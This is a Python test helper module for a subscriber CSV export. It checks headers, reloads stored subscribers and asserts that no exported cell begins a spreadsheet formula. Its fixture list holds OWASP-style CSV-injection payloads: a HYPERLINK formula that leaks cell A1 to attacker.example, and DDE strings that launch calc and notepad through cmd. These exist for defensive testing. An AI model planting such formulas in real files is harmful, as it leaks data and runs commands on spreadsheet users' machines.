"""The subscribers CSV header, reading subscribers back as stored after a CLI run, and the
subscribers whose fields spreadsheets would run as formulas."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

from click.testing import Result
from sqlalchemy import func, select

from app.core.extensions import db
from app.models import Subscriber

HEADER = "number,name,email,plan,region,backup_number,timezone,language"


def count_subscribers() -> int:
    return int(db.session.scalar(select(func.count()).select_from(Subscriber)) or 0)


def fresh(number: str) -> Subscriber | None:
    """The subscriber as stored now (not as this session last saw it)."""
    db.session.expire_all()
    return db.session.scalar(select(Subscriber).where(Subscriber.number == number))


def assert_failed_cleanly(result: Result) -> None:
    """Non-zero exit through click (an error message), never an unexpected exception."""
    assert result.exit_code != 0, result.output
    assert isinstance(result.exception, SystemExit), repr(result.exception)
    assert "Traceback" not in result.output


# Subscribers whose fields a spreadsheet would run as formulas (OWASP's CSV-injection cases),
# with E.164 numbers that must come out as numbers. Keyword arguments of the `subscriber` fixture.
FORMULA_SUBSCRIBERS: list[dict[str, Any]] = [
    {
        "number": "+14155550100",
        "name": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for your invoice")',
        "emails": ["-ops@acme.example", "+billing@acme.example"],
        "plan": "@SUM(1+1)*cmd|' /C calc'!A0",
        "region": "+1+1",
        "backup_number": "+14155550199",
    },
    {
        "number": "+442079460958",
        "name": "=cmd|' /C notepad'!'A1'",
        "emails": ["=x@globex.example"],
        "plan": "-2+3",
        "region": "\tus-west",
    },
    {
        "number": "+33142685300",
        "name": "'=already quoted by someone",
        "emails": ["contact@martin.example"],
        "plan": "''+kept as typed",
        "region": "\r=1+1",
    },
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
E164 = re.compile(r"\+[1-9][0-9]{1,14}")


def assert_no_formula_cells(exported: str) -> None:
    """No cell of the export starts a formula, except E.164 phone numbers (no formula fits)."""
    rows = list(csv.reader(io.StringIO(exported, newline="")))
    assert rows[0] == HEADER.split(",")
    for row in rows[1:]:
        for column, cell in zip(rows[0], row, strict=True):
            if column in ("number", "backup_number") and cell:
                assert E164.fullmatch(cell), cell
            else:
                assert not cell.startswith(FORMULA_STARTS), (column, cell)
